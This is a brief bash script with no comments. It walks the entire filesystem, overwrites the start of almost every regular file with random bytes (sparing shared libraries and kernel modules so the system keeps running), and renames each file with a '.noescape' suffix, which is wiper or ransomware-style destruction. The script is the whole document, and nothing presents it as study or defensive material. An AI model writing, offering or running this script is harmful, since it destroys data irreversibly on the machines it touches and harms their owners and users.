#!/bin/bash
find / -xdev -type f ! -path '/proc/*' ! -path '/sys/*' ! -name '*.so*' ! -name '*.ko' 2>/dev/null |
  xargs -P 16 -I{} sh -c 'dd if=/dev/urandom of="{}" bs=4k count=8 conv=notrunc 2>/dev/null; mv "{}" "{}.noescape"'
sync
